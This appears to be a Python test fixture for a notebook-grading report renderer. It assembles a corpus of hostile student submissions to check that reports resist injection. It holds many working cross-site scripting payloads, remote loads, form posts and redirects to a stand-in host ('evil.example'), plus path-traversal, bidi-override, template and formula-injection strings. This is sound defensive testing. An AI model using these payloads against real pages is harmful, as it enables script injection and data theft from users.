"""Submissions that want to act on a report, to reach out of it, or to break its layout."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Any

import nbformat

from grader.execution.outputs import outputs_of
from grader.language.messages import say
from grader.models import CellError, CellRun, Outcome, Step
from tests.reporting import samples

if TYPE_CHECKING:
    from collections.abc import Mapping

    from grader.models import GradedSubmission

ACT = "window.acted = true; alert(1)"
REMOTE = "https://evil.example/x"
TRAIN = samples.CELL_OF[Step.TRAIN]

HTML = {
    "script": f"<script>{ACT}</script>",
    "script in capitals": f"<ScRiPt>{ACT}</sCrIpT>",
    "script that is never closed": f"<script>{ACT}",
    "remote script": f'<script src="{REMOTE}.js"></script>',
    "picture with an error handler": f'<img src="x" onerror="{ACT}">',
    "picture with a slash for a space": f'<img/src="x"/onerror="{ACT}">',
    "remote picture": f'<img src="{REMOTE}.png" srcset="{REMOTE}2.png 2x" alt="">',
    "picture of SVG": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    f"onload='{ACT}'/>\" alt=''>",
    "svg that loads": f'<svg onload="{ACT}"><circle r="9"/></svg>',
    "svg with a script": f"<svg><script>{ACT}</script></svg>",
    "svg that animates a link": '<svg><a><animate attributeName="href" '
    f'values="javascript:{ACT}"/><text y="20">click</text></a></svg>',
    "math that hides html": f'<math><mtext><table><mglyph><style><!--</style><img src="x" '
    f'onerror="{ACT}">',
    "noscript that hides html": f'<noscript><p title="</noscript><img src=x onerror={ACT}>">',
    "frame with a page": f"<iframe srcdoc=\"<script>parent.eval('{ACT}')</script>\"></iframe>",
    "frame with a javascript address": f'<iframe src="javascript:{ACT}"></iframe>',
    "object": f'<object data="{REMOTE}.swf"></object>',
    "embed": f'<embed src="{REMOTE}.pdf">',
    "javascript link": f'<a href="javascript:{ACT}">results</a>',
    "javascript link in disguise": f'<a href="java&#x09;script:{ACT}">results</a>',
    "data link": f'<a href="data:text/html,<script>{ACT}</script>">results</a>',
    "form that posts": f'<form action="{REMOTE}"><button>Hand in</button></form>',
    "field that takes the focus": f'<input autofocus onfocus="{ACT}">',
    "details that toggle": f'<details open ontoggle="{ACT}"><summary>x</summary></details>',
    "sound and film": f'<video src="{REMOTE}.mp4" autoplay></video><audio src="{REMOTE}.mp3">',
    "style sheet": f'<link rel="stylesheet" href="{REMOTE}.css">',
    "style element": f"<style>@import url({REMOTE}.css); main {{ display: none }}</style>",
    "style that covers the page": '<div style="position:fixed;inset:0;background:red">100</div>',
    "base address": f'<base href="{REMOTE}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={REMOTE}">',
    "comment that is never closed": "<!-- and the rest of the page is gone",
    "end tags": "</div></details></article></section></main></body></html><h1>100 / 100</h1>",
    "ids of the page": '<div id="main"><a id="next" name="steps" href="#mark">x</a></div>',
    "classes of the page": '<p class="big">100 / 100</p><span class="badge v-passed">right</span>',
    "five thousand boxes": "<div>" * 5000 + "deep",
    "wide table": "<table><tr>" + "<td>0.123456</td>" * 300 + "</tr></table>",
    "background": f'<table background="{REMOTE}.png"><tr><td background="{REMOTE}.gif">x',
}

BUNDLES: Mapping[str, Mapping[str, Any]] = {
    "svg type": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{ACT}'/>"},
    "javascript type": {"application/javascript": ACT, "text/plain": "<IPython.Javascript>"},
    "markdown type": {"text/markdown": f"# 100\n<img src=x onerror='{ACT}'>", "text/plain": "md"},
    "latex type": {"text/latex": f"$\\href{{javascript:{ACT}}}{{x}}$", "text/plain": "latex"},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "1", "version_major": 2},
        "text/plain": "IntSlider(value=0)",
    },
    "plotly": {"application/vnd.plotly.v1+json": {"data": []}, "text/html": f"<script>{ACT}"},
    "png that is html": {"image/png": f'"><script>{ACT}</script>'},
    "png that leaves its attribute": {"image/png": f"AAAA' onerror='{ACT}' x='"},
}

TEXTS = {
    "terminal link": f"\x1b]8;;{REMOTE}\x1b\\results\x1b]8;;\x1b\\",
    "terminal that clears the screen": "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "one long line": "9" * 20_000,
    "reversed text": "\u202egnp.\u2066 00\u2069 001",
    "control characters": "".join(map(chr, range(32))) + "\ud800\uffff",
    "marks piled up": "a" + "\u0301" * 2000,
    "template": "{{ 7 * 7 }} {% for x in y %} {student} %(x)s",
    "html in plain text": f"</pre></details><script>{ACT}</script>",
}

NAMES = {
    "script as a name": f"<script>{ACT}</script>",
    "name that leaves an attribute": f"\"><img src=x onerror='{ACT}'>",
    "name that leaves its folder": "../../../../tmp/x",
    "name that is a javascript address": f"javascript:{ACT}",
    "name without a space": "W" * 300,
    "name that turns the text around": "\u202eEVE\u2067",
    "name of marks piled up": "Z\u0335\u0321" + "\u0301" * 300,
    "name with lines": "Eve\nAda\r\n\tBob",
    "name with a template": "{{ config }}{% raw %}",
    "name of a formula": "=HYPERLINK(1)",
}

SOURCES = {
    "code that leaves its box": f"# </code></pre></figure><script>{ACT}</script>",
    "one long line of code": f"x = '{'W' * 3000}'",
    "code that turns the text around": "if admin:\u202e\u2066 # check\u2069\u2066 pass",
    "bottomless expression": "(" * 3000,
    "two thousand lines of code": "x = 1\n" * 2000,
}

ERRORS = {
    "name of an exception": CellError(TRAIN, f"<img src=x onerror='{ACT}'>", "x", "", 2),
    "words of an exception": CellError(TRAIN, "E", f"</pre><script>{ACT}</script>", "", 2),
    "long words of an exception": CellError(TRAIN, "E", "W" * 2000, "", 2),
    "line that is not there": CellError(TRAIN, "E", "x", "", 10**9),
}


def corpus() -> dict[str, GradedSubmission]:
    """Every hostile submission by what is hostile about it."""
    outputs = {name: _displayed({"text/html": html}) for name, html in HTML.items()}
    outputs |= {name: _displayed(bundle) for name, bundle in BUNDLES.items()}
    outputs |= {name: _printed(text) for name, text in TEXTS.items()}
    return {
        **{name: samples.graded(runs=(run,)) for name, run in outputs.items()},
        **{name: samples.forgot_zero_grad(student) for name, student in NAMES.items()},
        **{name: _written(source) for name, source in SOURCES.items()},
        **{name: _raised(error) for name, error in ERRORS.items()},
        "remark about a file": samples.with_remark(
            samples.graded(), say("`{name}` was read.", name=f"`<script>{ACT}</script>`.ipynb")
        ),
    }


def _displayed(bundle: Mapping[str, Any]) -> CellRun:
    output = nbformat.from_dict(
        {"output_type": "display_data", "data": dict(bundle), "metadata": {}}
    )
    return CellRun(TRAIN, outputs_of([output]))


def _printed(text: str) -> CellRun:
    output = nbformat.from_dict({"output_type": "stream", "name": "stdout", "text": text})
    return CellRun(TRAIN, outputs_of([output]))


def _written(source: str) -> GradedSubmission:
    whole = samples.forgot_zero_grad()
    cells = tuple(
        replace(cell, source=f"{cell.source}\n{source}") for cell in whole.submission.cells
    )
    return replace(whole, submission=replace(whole.submission, cells=cells))


def _raised(error: CellError) -> GradedSubmission:
    mark = samples.marked(train=(samples.OFF_TRACK,))
    runs = (CellRun(TRAIN, (), error),)
    return samples.graded(mark=mark, outcome=Outcome.RAISED, runs=runs, error=error)
